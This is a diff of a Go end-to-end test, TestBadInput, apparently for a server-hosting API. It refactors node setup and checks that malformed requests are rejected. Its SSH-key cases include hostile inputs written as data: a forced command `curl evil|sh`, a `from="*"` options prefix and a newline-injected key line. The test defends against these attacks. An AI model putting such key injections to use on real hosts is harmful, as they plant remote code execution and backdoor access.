@@ -7,12 +7,9 @@ import (
 	"io"
 	"net/http"
 	"os"
-	"path/filepath"
 	"strings"
 	"testing"
 	"time"
-
-	"github.com/hearthd/hearth/bench"
 )
 
 // badCase is one rejected request: where it goes, what it sends, and the
@@ -35,17 +32,12 @@ type badCase struct {
 // changes nothing — not the API's state, not the node's revision, not the
 // authorized_keys file on the host.
 func TestBadInput(t *testing.T) {
-	ctl := newControl(t)
-	mock := startMockRuntime(t, "node-model", bench.MockConfig{Tokens: 4})
-	dir := t.TempDir()
-	ak := filepath.Join(dir, "authorized_keys")
-	node := nodeOf(t, ctl, filepath.Join(dir, "state"), ak, mock, ctl.enrollmentToken(1))
-	eventually(t, 30*time.Second, "node enrolled", func() bool { return len(ctl.nodes()) == 1 })
-	nodeID := ctl.nodes()[0].ID
+	e := startEnrolledNode(t)
+	ctl, node, ak, nodeID := e.ctl, e.node, e.ak, e.id
 	node.waitReady(30 * time.Second)
 	deployKey := node.createKey("bad-input")
 
-	pub := testPubKey(t, "victim")
+	pub := genPubKey(t, "victim")
 	key := ctl.mustCreate("/v1/ssh-keys", map[string]any{"name": "victim", "public_key": pub})
 	srv := ctl.mustCreate("/v1/servers", map[string]any{"name": "target", "chip": "cpu", "ram": 4, "storage": 20,
 		"stack": "deployment", "model": "node-model", "billing": "monthly", "ssh_key_ids": []string{key}})
@@ -84,7 +76,7 @@ func TestBadInput(t *testing.T) {
 		return `{"model":"node-model","messages":[{"role":"user","content":"hi"}]` + extra + `}`
 	}
 	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
-	fresh := genPubKey(t)
+	fresh := genPubKey(t, "e2e@test")
 	rules := "/v1/servers/" + srv + "/firewall-rules"
 	const inv, bad = "invalid_request", "invalid_request_error"
 
@@ -127,7 +119,7 @@ func TestBadInput(t *testing.T) {
 
 		// SSH keys.
 		{"key: garbage", "control", "POST", "/v1/ssh-keys", keyWith("k", "not a key"), nil, 400, inv, "public_key"},
-		{"key: two lines", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh+"\n"+genPubKey(t)), nil, 400, inv, "public_key"},
+		{"key: two lines", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh+"\n"+genPubKey(t, "e2e@test")), nil, 400, inv, "public_key"},
 		{"key: forced command", "control", "POST", "/v1/ssh-keys", keyWith("k", `command="curl evil|sh" `+fresh), nil, 400, inv, "public_key"},
 		{"key: options", "control", "POST", "/v1/ssh-keys", keyWith("k", `no-pty,from="*" `+fresh), nil, 400, inv, "public_key"},
 		{"key: newline in comment", "control", "POST", "/v1/ssh-keys", keyWith("k", fresh+"\nssh-rsa AAAA injected"), nil, 400, inv, "public_key"},
